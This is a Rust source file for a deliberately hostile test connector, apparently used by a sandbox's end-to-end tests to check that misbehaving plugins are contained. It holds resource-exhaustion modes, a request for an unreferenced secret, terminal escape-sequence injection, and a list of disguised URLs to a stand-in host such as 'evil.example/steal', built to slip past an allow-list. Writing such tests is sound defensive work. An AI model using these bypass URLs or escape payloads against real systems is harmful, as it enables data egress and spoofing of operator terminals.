//! A connector that misbehaves on purpose, chosen by the config's `"hostile"` value.
//! In `open`: `alloc` grows its memory without bound, `panic` panics with a message, `loop`
//! never returns. As a session with one resource `r` against the config's `base_url`:
//! `huge_page` returns a page of ~2 MiB of records, `wrong_count` a page whose count is not
//! its records', `bad_json` records that are not JSON, `egress:N` a request to the N-th
//! disguise of a host outside the allow-list, `secret` a request naming a secret the config
//! does not reference, `never_done` pages forever, `flood` plans 20,000 requests at once,
//! `dup_seq` two requests under one seq, `escapes` a warning then an error full of terminal
//! escape sequences, `chatty` one page with 1,000 warnings (the first 100,000 characters
//! long), `huge_state` a state of 2 MiB with its page, `twins` resource `r` listed twice.
//! Anything else is a config error. Built by the e2e tests (`tests/e2e/sandbox.rs`).
#![allow(unsafe_code)] // the code `wit_bindgen::generate!` expands to

use std::cell::Cell;

wit_bindgen::generate!({
    world: "connector",
    path: "../../wit",
});

use exports::sluice::connector::source::{Guest, GuestSession, Session};
use sluice::connector::types::{
    Auth, ConfigError, ContractMode, Credential, Error, Level, Method, NamedCredential, Notice,
    Page, Request, ResourceInfo, Response, SchemaContract, WriteDisposition,
};

struct Component;

/// A session misbehaving in one way (`mode`) against `base` (scheme://host:port).
struct Hostile {
    mode: String,
    base: String,
    seq: Cell<u64>,
}

impl Guest for Component {
    type Session = Hostile;

    fn config_schema() -> String {
        "{}".to_string()
    }
}

/// The string value of `"key": "..."` in the config text (no JSON parser in here).
fn value_of(config: &str, key: &str) -> Option<String> {
    let at = config.find(&format!("\"{key}\""))?;
    let rest = &config[at + key.len() + 2..];
    let start = rest.find('"')? + 1;
    let end = rest[start..].find('"')? + start;
    Some(rest[start..end].to_string())
}

/// Ways to write a host outside the allow-list (the base is `http://127.0.0.1:PORT`): none
/// may be contacted, none leaves 127.0.0.0/8 or gets resolved.
fn disguise(n: usize, base: &str) -> String {
    let port = base.rsplit(':').next().unwrap_or("1");
    match n {
        0 => "http://evil.example/steal".to_string(),
        1 => format!("http://127.0.0.1:{port}@evil.example/userinfo"),
        2 => format!("http://2130706434:{port}/decimal-127.0.0.2"),
        3 => format!("http://0x7f.0.0.2:{port}/hex-127.0.0.2"),
        4 => format!("https://127.0.0.1:{port}/other-scheme"),
        5 => format!("http://[::1]:{port}/ipv6"),
        6 => "http://127.0.0.1:1/other-port".to_string(),
        _ => format!("http://%65vil.example:{port}/percent"),
    }
}

impl GuestSession for Hostile {
    fn open(config: String, _state: Vec<(String, String)>) -> Result<Session, Error> {
        if config.contains("\"alloc\"") {
            let mut kept: Vec<Vec<u8>> = Vec::new();
            loop {
                kept.push(std::hint::black_box(vec![7u8; 1 << 20]));
            }
        }
        if config.contains("\"panic\"") {
            panic!("the hostile connector gave up on purpose");
        }
        if config.contains("\"loop\"") {
            let mut n = 0u64;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        let mode = value_of(&config, "hostile").unwrap_or_default();
        let known = [
            "huge_page",
            "wrong_count",
            "bad_json",
            "secret",
            "never_done",
            "flood",
            "dup_seq",
            "escapes",
            "chatty",
            "huge_state",
            "twins",
        ];
        if !known.contains(&mode.as_str()) && !mode.starts_with("egress:") {
            return Err(Error::Config(ConfigError {
                path: "hostile".into(),
                message: "expected alloc, panic, loop or a session mode".into(),
            }));
        }
        let base = value_of(&config, "base_url").unwrap_or_default();
        Ok(Session::new(Hostile {
            mode,
            base: base.trim_end_matches('/').to_string(),
            seq: Cell::new(0),
        }))
    }

    fn resources(&self) -> Vec<ResourceInfo> {
        let copies = if self.mode == "twins" { 2 } else { 1 };
        vec![ResourceInfo {
            name: "r".into(),
            primary_key: Vec::new(),
            write_disposition: WriteDisposition::Append,
            merge_strategy: None,
            parent: None,
            selected: true,
            max_table_nesting: None,
            table_name: None,
            columns: Vec::new(),
            merge_key: Vec::new(),
            schema_contract: SchemaContract {
                tables: ContractMode::Evolve,
                columns: ContractMode::Evolve,
                data_type: ContractMode::Evolve,
            },
            nested_hints: Vec::new(),
        }; copies]
    }

    fn next_requests(&self, _name: String) -> Result<Vec<Request>, Error> {
        let seq = self.seq.get();
        self.seq.set(seq + 1);
        let key = Auth::Query(NamedCredential {
            name: "api_key".into(),
            value: Credential::Secret("api_key".into()),
        });
        let (url, auth) = match self.mode.as_str() {
            "secret" => (
                format!("{}/v1/inventory", self.base),
                Auth::Bearer(Credential::Secret("not_in_the_config".into())),
            ),
            m if m.starts_with("egress:") => {
                let n = m["egress:".len()..].parse().unwrap_or(0);
                (disguise(n, &self.base), key)
            }
            _ => (
                format!("{}/v1/inventory?offset={}&limit=1", self.base, seq),
                key,
            ),
        };
        let request = |seq: u64, url: String| Request {
            seq,
            method: Method::Get,
            url,
            headers: Vec::new(),
            body: None,
            auth: Some(auth.clone()),
        };
        match self.mode.as_str() {
            // 20,000 requests at once, then none.
            "flood" if seq == 0 => {
                self.seq.set(20_000);
                Ok((0..20_000)
                    .map(|n| {
                        let url = format!("{}/v1/inventory?offset={n}&limit=1", self.base);
                        request(n, url)
                    })
                    .collect())
            }
            "flood" => Ok(Vec::new()),
            // Two requests under one seq.
            "dup_seq" => Ok(vec![request(seq, url.clone()), request(seq, url)]),
            _ => Ok(vec![request(seq, url)]),
        }
    }

    fn on_response(&self, _name: String, response: Response) -> Result<Page, Error> {
        // Set the terminal's title, clear the screen, and overwrite the line.
        const ESCAPES: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\rfake line";
        if self.mode == "escapes" && response.seq == 0 {
            return Ok(Page {
                records: "[]".into(),
                count: 0,
                state: "{}".into(),
                done: false,
                notices: vec![Notice {
                    level: Level::Warn,
                    message: format!("warned {ESCAPES}"),
                }],
            });
        }
        if self.mode == "escapes" {
            return Err(Error::Protocol(format!("failed {ESCAPES}")));
        }
        if self.mode == "chatty" {
            let notice = |n: usize| Notice {
                level: Level::Warn,
                message: if n == 0 { "x".repeat(100_000) } else { format!("notice {n}") },
            };
            return Ok(Page {
                records: "[]".into(),
                count: 0,
                state: "{}".into(),
                done: true,
                notices: (0..1000).map(notice).collect(),
            });
        }
        let (records, count) = match self.mode.as_str() {
            "huge_page" => {
                let one = r#"{"padding": "0123456789012345678901234567890123456789"},"#;
                let mut text = String::from("[");
                for _ in 0..(2 << 20) / one.len() {
                    text.push_str(one);
                }
                text.push_str("{}]");
                let count = ((2 << 20) / one.len() + 1) as u32;
                (text, count)
            }
            "wrong_count" => (r#"[{"id": 1}]"#.to_string(), 3),
            "bad_json" => ("{not json".to_string(), 1),
            "huge_state" => {
                return Ok(Page {
                    records: "[]".into(),
                    count: 0,
                    state: format!("{{\"pad\": \"{}\"}}", "x".repeat(2 << 20)),
                    done: false,
                    notices: Vec::new(),
                });
            }
            _ => (r#"[{"id": 1}]"#.to_string(), 1),
        };
        Ok(Page {
            records,
            count,
            state: "{}".into(),
            done: false,
            notices: Vec::new(),
        })
    }
}

export!(Component);
